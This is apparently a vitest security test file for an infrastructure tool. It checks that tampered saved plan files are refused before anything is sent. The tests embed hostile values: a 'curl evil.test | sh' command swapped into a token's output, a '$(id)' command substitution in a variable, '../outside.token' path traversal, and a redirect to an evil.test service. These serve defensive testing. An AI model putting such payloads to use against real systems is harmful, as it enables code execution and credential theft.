// Row c: whoever can replace a saved plan, its checksum too, decides nothing by it: it is applied where it is the plan that the
// applying job comes to by itself, and refused otherwise, unless it is sealed with a key of that job.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Plan } from '../../src/model/plan/plan.ts';
import { openEnvironmentKeyring } from '../../src/state/encryption/read-passphrases.ts';
import { readPlanFile, writePlanFile, type SavedPlan } from '../../src/state/plan-file.ts';
import { DayTwoWorld } from '../support/day-two.ts';
import { forgePlan } from '../support/forge-plan.ts';
import { expectFailure } from '../support/expect-words.ts';

const evil = 'https://evil.test/v1';

let world: DayTwoWorld;
let origins: Set<string>;
beforeEach(async () => {
  world = await DayTwoWorld.open();
  origins = new Set();
});
afterEach(() => world.close());

const run = (argv: readonly string[], env: Record<string, string> = {}) =>
  world.run(argv, {
    env,
    meddle: (request, pass) => {
      origins.add(new URL(request.url).origin);
      return pass();
    },
  });

const configure = (text: string) =>
  writeFile(join(world.directory, 'main.yaml'), `version: 1\n${text}`);

const service = "service: { baseUrl: 'https://sandbox/v1' }\n";
const token = (writeTo: string, name = 'ci') =>
  `tokens: { ${name}: { scopes: [compute], writeTo: ${writeTo} } }\n`;

const saved = () => join(world.directory, 'saved.plan');
const forge = (change: (saved: SavedPlan) => object) => forgePlan(saved(), change);

/** Rewrites the text of the saved plan, and makes a checksum that fits. */
const tamper = (rewrite: (text: string) => string) =>
  forge((plan) => JSON.parse(rewrite(JSON.stringify(plan))) as object);

async function plan(flags: readonly string[] = [], env?: Record<string, string>): Promise<void> {
  const planned = await run(['plan', '--out', 'saved.plan', ...flags], env);
  expect(planned, planned.stderr).toMatchObject({ code: 0 });
  origins.clear();
}

/** Nothing was sent at all, but to the own service, and nothing was changed there. */
async function expectRefused(
  code: string,
  env?: Record<string, string>,
  flags: readonly string[] = [],
): Promise<string> {
  const applied = await run(['apply', 'saved.plan', ...flags], env);
  expect(applied.stderr).toContain(`[${code}]`);
  expect(applied).toMatchObject({ code: 1, writes: [] });
  expect([...origins]).toEqual([]);
  return applied.stderr.replace(/\s*\n│ */g, ' ');
}

test('a plan that is not encrypted takes no place of one that is', async () => {
  await configure(`${service}projects: { shop: {} }\nstate: { encryption: { key: passphrase } }\n`);
  const env = { HOSTWRIGHT_STATE_PASSPHRASE: 'correct horse battery' };
  const first = await run(['apply', '--auto-approve', '--allow-plain-state'], env);
  expect(first).toMatchObject({ code: 0 });
  expect(await run(['plan', '--out', 'saved.plan'], env)).toMatchObject({ code: 0 });
  const path = join(world.directory, 'saved.plan');
  const keys = () =>
    openEnvironmentKeyring({ env, execute: () => Promise.reject(new Error('none')) });
  const { isEncrypted, ...saved } = await readPlanFile(path, keys);
  expect(isEncrypted).toBe(true);
  await writePlanFile(path, saved);
  const refused = await run(['apply', 'saved.plan'], env);
  expect(refused.stderr).toContain('[plan-not-encrypted]');
  expect(refused).toMatchObject({ code: 1, writes: [] });
  expect(await run(['apply', 'saved.plan', '--allow-plain-state'], env)).toMatchObject({ code: 0 });
});

test('a saved plan whose parts are not of their kind is refused, whatever is asked of it', async () => {
  await plan();
  const whole = await readFile(saved(), 'utf8');
  const { checksum, format, formatVersion, ...parts } = JSON.parse(whole) as Record<string, object>;
  expect([checksum, format, formatVersion]).not.toContain(undefined);
  const others: readonly (readonly [string, object])[] = [
    ...Object.keys(parts).map(
      (name) => [name, { [name]: name === 'isIncomplete' ? 1 : null }] as const,
    ),
    ['plan.changes', { plan: { ...parts['plan'], changes: [{ address: ['no text'] }] } }],
    ['plan.tasks', { plan: { ...parts['plan'], tasks: { length: 1 } } }],
    ['desired.resources', { desired: { resources: [null] } }],
    ['planOptions.selection', { planOptions: { ...parts['planOptions'], selection: [] } }],
  ];
  for (const [name, other] of others.filter(([one]) => one !== 'seal' && one !== 'identity')) {
    await writeFile(saved(), whole);
    await forge(() => other);
    const detail = new RegExp(`Its ${name.replace('.', '[.]')}\\b`);
    expect(await expectRefused('plan-file-damaged')).toMatch(detail);
    const shown = await run(['show', 'saved.plan', '--format', 'html']);
    expectFailure(shown, '[plan-file-damaged]');
    // The page says so, and shows nothing of the plan.
    expect(shown.stdout).toMatch(/<title>Plan for [^<]*: could not be made<\/title>/);
    expect(shown.stdout).not.toContain('id="changes"');
  }
});

describe('a saved plan that is not sealed', () => {
  const extra = (networks: string) => `variables: { net: { default: lan }, old: { default: [] } }
policies: { few: { for: vms, assert: "after.ram <= 64", message: Too many } }
outputs: { net: { value: "\${var.net}" } }
projects: { new: { networks: { a: { name: "\${var.net}" }, ${networks} } } }
`;
  const write = (text: string, place = 'extra.yaml') =>
    writeFile(join(world.directory, place), text);
  const web = 'projects.shop.vms.web[1]';
  const edit = (address: string, change: object) => (desired: SavedPlan['desired']) => ({
    resources: desired.resources.map((one) =>
      one.address === address ? { ...one, ...change } : one,
    ),
  });
  const options = (given: object) => (saved: SavedPlan) => ({
    planOptions: { ...saved.planOptions, ...given },
  });

  test('of another configuration changes nothing of this one', async () => {
    await write(extra('f1: , f2: '));
    const first = await run(['apply', '--auto-approve']);
    expect(first, first.stderr).toMatchObject({ code: 0 });
    await write(extra('f1: , evil: '));
    await plan();
    await write(extra('f1: , f2: , f3: '));
    const said = await expectRefused('stale-plan');
    for (const name of ['f2', 'f3'])
      expect(said).toContain(`networks.${name}: it is not in the plan`);
    expect(said).toContain('projects.new.networks.evil: it is not in the configuration');
  });

  test.each<[string, (desired: SavedPlan['desired']) => object, string]>([
    ['policies', () => ({ policies: [] }), 'policies'],
    ['outputs', () => ({ outputs: undefined }), 'outputs'],
    ['projects to empty', () => ({ exclusive: ['projects.shop'] }), 'exclusive'],
    ['list of resources', () => ({ resources: [] }), `${web}: it is not in the plan`],
    ['name', edit('projects.new.networks.a', { attributes: { name: 'b' } }), 'networks.a: name'],
    ['lifecycle', edit(web, { lifecycle: {} }), `${web}: lifecycle`],
    [
      'expression',
      edit(web, { deferred: { name: { kind: 'value', value: 'x' } } }),
      `${web}: name`,
    ],
  ])('has no other %s than the configuration', async (_, change, line) => {
    await write(extra('b: '));
    await plan();
    await forge(({ desired }) => ({ desired: { ...desired, ...change(desired) } }));
    expect(await expectRefused('stale-plan')).toContain(line);
  });

  test.each<[string, (saved: SavedPlan) => object, string]>([
    [
      'another value',
      () => ({ variables: { net: 'evil', old: [] } }),
      'Add --var net=evil to apply',
    ],
    ['a list', () => ({ variables: { net: 'lan', old: ['x'] } }), `Add --var 'old=["x"]' to apply`],
    [
      'one more',
      ({ variables }) => ({ variables: { ...variables, 'x y': '$(id)' } }),
      `Add --var 'x y=$(id)' to`,
    ],
    ['one less', () => ({ variables: { net: 'lan' } }), 'Omit --var'],
    ['a mode', ({ plan }) => ({ plan: { ...plan, mode: 'destroy' } }), 'Add --destroy to'],
    ['--adopt', options({ adoptsAll: true }), 'Add --adopt to'],
    ['--force', options({ isForced: true }), 'Add --force to'],
    [
      '--replace and leave to lose data',
      options({ allowsDataLoss: true, replace: [web] }),
      `Add --allow-data-loss --replace '${web}' to`,
    ],
    [
      'a selection',
      options({ selection: { targets: ['projects.new'], excludes: [web] } }),
      `Add --target projects.new --exclude '${web}' to`,
    ],
    ['a directory', () => ({ directory: 'other' }), 'Add other to'],
    ['a way out', () => ({ directory: '../other', isTrusted: true }), 'Add ../other to'],
  ])('brings along no options: %s', async (_, change, hint) => {
    await write(extra('b: '));
    await mkdir(join(world.directory, 'other'));
    await write(`version: 1\n${service}projects: { evil: {} }\n`, 'other/main.yaml');
    await plan();
    await forge(change);
    expect(await expectRefused('plan-with-other-options')).toContain(`Hint: ${hint}`);
  });

  test('is applied with what it was made with, as its note and its refusal say', async () => {
    await write(extra('b: '));
    const flags = ['--target', 'projects.new', '--var', 'net=front'];
    const planned = await run(['plan', '--out', 'saved.plan', ...flags]);
    expect(planned.stdout).toContain(`apply "saved.plan" ${flags.join(' ')}\n`);
    origins.clear();
    expect(await expectRefused('plan-with-other-options')).toContain(
      'Add --target projects.new --var net=front to',
    );
    const said = await expectRefused('plan-with-other-options', {}, [
      ...flags.slice(0, 2),
      '--adopt',
    ]);
    expect(said).toContain('Hint: Add --var net=front, and omit --adopt to apply');
    const other = [...flags.slice(0, 2), '--var', 'net=back'];
    expect(await expectRefused('plan-with-other-options', {}, other)).toContain(
      'Add --var net=front to',
    );
    expect(await run(['apply', 'saved.plan', ...flags])).toMatchObject({ code: 0 });
  });

  test('names a variable that has no value here', async () => {
    await write(extra('b: ').replace('{ default: lan }', '{ type: string }'));
    await plan(['--var', 'net=front']);
    expect(await expectRefused('plan-with-other-options')).toContain('Add --var net=front to');
  });

  test('is applied in the directory that it names, named once more', async () => {
    await mkdir(join(world.directory, 'other'));
    await write(`version: 1\n${service}projects: { mine: {} }\n`, 'other/main.yaml');
    const planned = await run(['plan', 'other', '--out', 'saved.plan']);
    expect(planned.stdout).toContain('apply "saved.plan" other\n');
    expect(await run(['apply', 'saved.plan', './other/'])).toMatchObject({ code: 0 });
    expect((await run(['apply', '.', 'other'])).stderr).toContain('[too-many-arguments]');
  });

  test('lines that moved are no other configuration', async () => {
    await write(extra('b: '));
    await plan();
    await write(`# More.\n\n${extra('b: ')}`);
    expect(await run(['apply', 'saved.plan'])).toMatchObject({ code: 0 });
  });

  test('of another version is refused as that', async () => {
    await plan();
    await forge(() => ({ version: '0.0.1', desired: { resources: [] } }));
    await expectRefused('plan-file-version');
  });

  test('says not what is due, unless it is sealed', async () => {
    const tokens =
      'tokens: { ci: { scopes: [compute], expiresIn: 90d, writeTo: { file: ci.token } } }\n';
    await write(tokens);
    expect(await run(['apply', '--auto-approve'])).toMatchObject({ code: 0 });
    await write(`${tokens}projects: { new: {} }\n`);
    await plan();
    expect(await run(['plan', '--out', 'sealed.plan'], key)).toMatchObject({ code: 0 });
    await world.pass(91 * 86_400);
    const refused = await run(['apply', 'saved.plan']);
    expect(refused).toMatchObject({ code: 1, writes: [] });
    expect(refused.stderr).toContain('tokens.ci: no change -> replace');
    expect(await run(['apply', 'sealed.plan'], key)).toMatchObject({ code: 0 });
  });
});

const key = { HOSTWRIGHT_PLAN_KEY: 'q3JhbmRvbSBieXRlcyBmb3IgYSBrZXkgb2YgdGVzdHM=' };

describe('a saved plan that is sealed', () => {
  const passphrase = { HOSTWRIGHT_STATE_PASSPHRASE: 'correct horse battery' };
  const flags = ['--target', 'projects.new', '--var', 'net=front'];

  beforeEach(() =>
    configure(
      `${service}variables: { net: { default: lan } }\nprojects: { new: { networks: { a: { name: "\${var.net}" } } } }\n`,
    ),
  );

  test('has its directory, options and variables, and hides what it holds', async () => {
    await mkdir(join(world.directory, 'other'));
    const text = await readFile(join(world.directory, 'main.yaml'), 'utf8');
    await writeFile(join(world.directory, 'other/main.yaml'), text);
    const planned = await run(['plan', 'other', '--out', 'saved.plan', ...flags], key);
    expect(planned.stdout).toContain('apply "saved.plan"\n');
    expect(await readFile(saved(), 'utf8')).not.toContain('front');
    expect((await run(['show', 'saved.plan'], key)).stdout).toContain('"front"');
    origins.clear();
    await expectRefused('plan-with-other-options', key, ['.']);
    await expectRefused('saved-plan-with-options', key, flags);
    await writeFile(
      join(world.directory, 'other/main.yaml'),
      text.replace('default: lan', 'default: x'),
    );
    expect(await run(['apply', 'saved.plan', 'other'], key)).toMatchObject({ code: 0 });
  });

  test('takes its commands and files from the configuration all the same', async () => {
    await configure(`${service}${token('{ file: ci.token }')}`);
    await plan([], key);
    await configure(`${service}${token('{ file: other.token }')}`);
    await expectRefused('stale-plan', key);
  });

  test.each<[string, Record<string, string>]>([
    ['that is plain', {}],
    ['with the passphrase of the state', passphrase],
    ['with another key', { HOSTWRIGHT_PLAN_KEY: 'what a stranger made up' }],
  ])('is none %s', async (_, env) => {
    if (env === passphrase)
      await writeFile(
        join(world.directory, 'state.yaml'),
        'state: { encryption: { key: passphrase } }\n',
      );
    await plan(env === passphrase ? ['--allow-plain-state'] : [], env);
    await expectRefused('plan-not-sealed', { ...passphrase, ...key });
    await expectRefused('plan-not-sealed', {
      ...passphrase,
      ...key,
      HOSTWRIGHT_ALLOW_PLAIN_STATE: '1',
    });
    expect((await run(['show', 'saved.plan'], key)).stderr).toContain('[plan-not-sealed]');
  });

  test('is none where a part of it was changed, and cannot be read without the key', async () => {
    await plan([], key);
    await expectRefused('plan-key-missing');
    await expectRefused('plan-key-missing', passphrase);
    const sealed = await readFile(saved(), 'utf8');
    await writeFile(saved(), sealed.replace(/(?<="data": ")../, 'AA'));
    await expectRefused('plan-not-sealed', key);
  });

  test.each([
    [
      'the passphrase of the state',
      { HOSTWRIGHT_PLAN_KEY: passphrase.HOSTWRIGHT_STATE_PASSPHRASE, ...passphrase },
    ],
    ['a short one', { HOSTWRIGHT_PLAN_KEY: 'fifteen letters' }],
  ])('is sealed with a key of its own, not %s', async (_, env) => {
    expectFailure(await run(['plan', '--out', 'saved.plan'], env), '[plan-key-unfit]');
    await plan();
    await expectRefused('plan-key-unfit', env);
  });
});

test('a plain plan of a directory without encryption is none of one with it', async () => {
  await mkdir(join(world.directory, 'other'));
  await writeFile(
    join(world.directory, 'other/main.yaml'),
    `version: 1\n${service}projects: { evil: {} }\n`,
  );
  expect(await run(['plan', 'other', '--out', 'saved.plan'])).toMatchObject({ code: 0 });
  origins.clear();
  await configure(`${service}projects: { shop: {} }\nstate: { encryption: { key: passphrase } }\n`);
  const env = { HOSTWRIGHT_STATE_PASSPHRASE: 'correct horse battery' };
  await expectRefused('plan-with-other-options', env);
  await forge(() => ({ directory: '.' }));
  await expectRefused('stale-plan', env);
});

describe('attack c: a saved plan with a checksum that fits', () => {
  const byYaml = { HOSTWRIGHT_BASE_URL: '' };

  test('names no other service', async () => {
    await configure(`${service}projects: { shop: {} }\n`);
    await plan(['--allow-other-service'], byYaml);
    const source = { file: 'main.yaml', line: 1, column: 1, endLine: 1, endColumn: 1 };
    const connection = { kind: 'remote', baseUrl: evil, source };
    await tamper((text) =>
      text
        .replaceAll('https://sandbox/v1', evil)
        .replace(/^\{/, `{"connection":${JSON.stringify(connection)},`),
    );
    await expectRefused('other-service', byYaml);
  });

  test('names none through a variable that the address is made of', async () => {
    await configure(
      'variables: { host: { default: sandbox } }\nservice: { baseUrl: "https://${var.host}/v1" }\nprojects: { shop: {} }\n',
    );
    await plan(['--allow-other-service'], byYaml);
    await tamper((text) =>
      text.replaceAll('https://sandbox/v1', evil).replace('"host":"sandbox"', '"host":"evil.test"'),
    );
    await expectRefused('other-service', byYaml);
  });

  test('is applied to no other service that the environment names', async () => {
    await configure(`${service}projects: { shop: {} }\n`);
    await plan();
    await expectRefused('other-service', { HOSTWRIGHT_BASE_URL: evil });
    // Nor with leave: it says what would change at the first one.
    const allowed = { HOSTWRIGHT_BASE_URL: evil, HOSTWRIGHT_ALLOW_OTHER_SERVICE: '1' };
    await expectRefused('other-service', allowed);
  });

  test.each([
    ['command', '{ file: ci.token }', '{"file":"ci.token"}', '{"command":"curl evil.test | sh"}'],
    ['file', '{ file: ci.token }', '"ci.token"', '"../outside.token"'],
  ])('names no other %s', async (_, written, from, to) => {
    await configure(`${service}${token(written)}`);
    await plan();
    await tamper((text) => text.replaceAll(from, to));
    await expectRefused('stale-plan');
  });

  test('names no other file through a variable', async () => {
    const variables = 'variables: { path: { default: ci.token } }\n';
    await configure(`${variables}${service}${token('{ file: "${var.path}" }')}`);
    await plan();
    await tamper((text) => text.replaceAll('ci.token', '../outside.token'));
    await expectRefused('plan-with-other-options');
  });

  test('names none in an expression that is worked out on apply', async () => {
    await configure(`${service}${token('{ file: ci.token }')}`);
    await plan();
    const late = { writeTo: { kind: 'value', value: { file: '../outside.token' } } };
    await tamper((text) =>
      text.replace('"kind":"accessToken"', `$&,"deferred":${JSON.stringify(late)}`),
    );
    await expectRefused('stale-plan');
  });

  test('writes nothing for a resource that the configuration does not have', async () => {
    await configure(`${service}${token('{ file: ci.token }')}`);
    await plan();
    await configure(`${service}projects: { shop: {} }\n`);
    await expectRefused('stale-plan');
  });

  test.each([
    [
      'sends no other command',
      'other commands would be sent',
      ({ tasks }: Plan) => ({ tasks: tasks.map((task) => ({ ...task, commands: [] })) }),
    ],
    [
      'sends no command more',
      'other commands would be sent',
      ({ tasks: [first, ...others] }: Plan) => ({
        tasks: [
          {
            ...first,
            commands: [...(first?.commands ?? []), { kind: 'deleteToken', token: { id: 'tok-1' } }],
          },
          ...others,
        ],
      }),
    ],
    [
      'resolves no other expression',
      'its deferred values would be resolved otherwise',
      ({ deferred = [] }: Plan) => ({
        deferred: deferred.map((one) => ({
          ...one,
          desired: { ...one.desired, deferred: { name: { kind: 'value', value: 'evil' } } },
        })),
      }),
    ],
  ])('%s', async (_, line, rewrite) => {
    await configure(
      `${service}projects: { new: { networks: { lan: , late: { name: 'of-\${projects.new.networks.lan.cidr}' } } } }\n`,
    );
    expect(await run(['plan', '--out', 'saved.plan'])).toMatchObject({ code: 0 });
    await tamper((text) => {
      const saved = JSON.parse(text) as { readonly plan: Plan };
      return JSON.stringify({ ...saved, plan: { ...saved.plan, ...rewrite(saved.plan) } });
    });
    const applied = await run(['apply', 'saved.plan']);
    expect(applied.stderr).toContain('[stale-plan]');
    expect(applied.stderr).toContain(line);
    expect(applied).toMatchObject({ code: 1, writes: [] });
  });

  test('is applied as it is where none of that differs', async () => {
    await configure(`${service}${token('{ file: ci.token }')}`);
    await plan();
    expect(await run(['apply', 'saved.plan'])).toMatchObject({ code: 0 });
    expect(await readFile(join(world.directory, 'ci.token'), 'utf8')).toMatch(/^hw_/);
  });
});
